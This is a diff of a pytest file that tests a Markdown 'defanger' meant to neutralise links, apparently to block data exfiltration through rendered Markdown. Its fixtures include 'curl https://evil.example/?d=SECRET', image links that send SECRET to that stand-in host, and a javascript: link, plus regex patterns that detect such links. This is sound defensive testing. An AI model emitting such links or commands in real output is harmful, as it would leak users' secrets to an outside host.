@@ -2,18 +2,16 @@
 
 from __future__ import annotations
 
-import html
 import random
-import re
 from collections.abc import Sequence
 
 import pytest
-from markdown_it import MarkdownIt
 
 from task.utils.defang import DefangedChoice
 from task.utils.defanger import Defanger
 from task.utils.inert import Suspicion
 from tests.support.choices import RecordingChoice
+from tests.support.markdown_readers import leads_to_evil
 
 KNOWN = "https://known.example/a"
 EVIL = "https://evil.example/?d=SECRET"
@@ -39,6 +37,7 @@ SAME = (
     f"[a page]({KNOWN}) and {KNOWN}, <{KNOWN}> ({KNOWN}) `{KNOWN}`",
     f"![known]({KNOWN}) ![ours](files/b/chart.png) [ours](files/b/x.csv) ![d](data:image/png;base64,AAAA)",
     f"[1]: {KNOWN}\n",
+    f"([1]({KNOWN}),[2]({KNOWN})) [3]({KNOWN})[4]({KNOWN})then",
     f"```\ncurl {EVIL}\n![x]({EVIL})\n```\n",
     f"~~~ sh\ncurl {EVIL}\n~~~",
     f"````\n```\n{EVIL}\n````",
@@ -74,6 +73,7 @@ CHANGED = {
     f"```\nx\n```\n![y]({EVIL})": f"```\nx\n```\n\\[y\\] (`{INERT}`)",
     f"```\r![x]({EVIL})\r```\r![y]({EVIL})": f"```\r![x]({EVIL})\r```\r\\[y\\] (`{INERT}`)",
     f"<div>\n```\n</div>\n\n![y]({EVIL})": f"<div>\n```\n</div>\n\n\\[y\\] (`{INERT}`)",
+    f"[a [b]({KNOWN}) c]({KNOWN}),SECRET": f"[a [b]({KNOWN}) c](https[://]known[.]example/a),SECRET",
     "[x](javascript:alert(1))": "[x] (`javascript:alert(1)`)",
 }
 
@@ -158,29 +158,6 @@ FRAGMENTS = (
     "\\", '"t"', "'", "x", "word ", "\r", "$$", "<div>", "</div>", "<!--", "-->", "<pre>", "</pre>", "1. ", "# ", "|",
     KNOWN, "`` ", "\t", "!", "*", "_", "&#33;", "&lbrack;", "\ufeff", "\u00a0",
 )  # fmt: skip
-READERS = (
-    MarkdownIt("commonmark", {"html": True}),
-    MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"]),
-)
-ACTIVE = re.compile(r"([a-z][a-z0-9+.-]*:|[/\\]{2})", re.IGNORECASE)
-LIVE_TAG = re.compile(r"<[a-zA-Z][^>]*(?:(?<!;)//|\\\\)evil\.example[^>]*>")
-LINKED_TEXT = re.compile(r"(?:https?://|(?<![a-zA-Z0-9])www\.)evil")
-
-
-def carried_out(text: str) -> list[str]:
-    """What a reader's program would load or follow of the text, were it rendered as Markdown."""
-    found: list[str] = []
-    for reader in READERS:
-        for block in reader.parse(text):
-            for token in (block, *(block.children or ())):
-                urls = [str(token.attrs.get(name, "")) for name in ("src", "href")]
-                found += [url for url in urls if ACTIVE.match(url) and "evil.example" in url]
-                if token.type in ("html_block", "html_inline"):
-                    raw = re.sub(r"<!--.*?(-->|$)|<https", "", token.content.replace("&lt;", ""), flags=re.DOTALL)
-                    found += LIVE_TAG.findall(html.unescape(raw))
-                if token.type == "text":
-                    found += LINKED_TEXT.findall(token.content)
-    return found
 
 
 @pytest.mark.parametrize("seed", range(8))
@@ -193,4 +170,4 @@ def test_no_markdown_reader_finds_a_way_out_in_random_texts(seed: int) -> None:
             size = dice.choice((1, 2, 3, 5, 9))
             pieces.append(defanger.feed(text[position : position + size]))
             position += size
-        assert not carried_out("".join([*pieces, defanger.feed("", last=True)])), repr(text)
+        assert not leads_to_evil("".join([*pieces, defanger.feed("", last=True)])), repr(text)
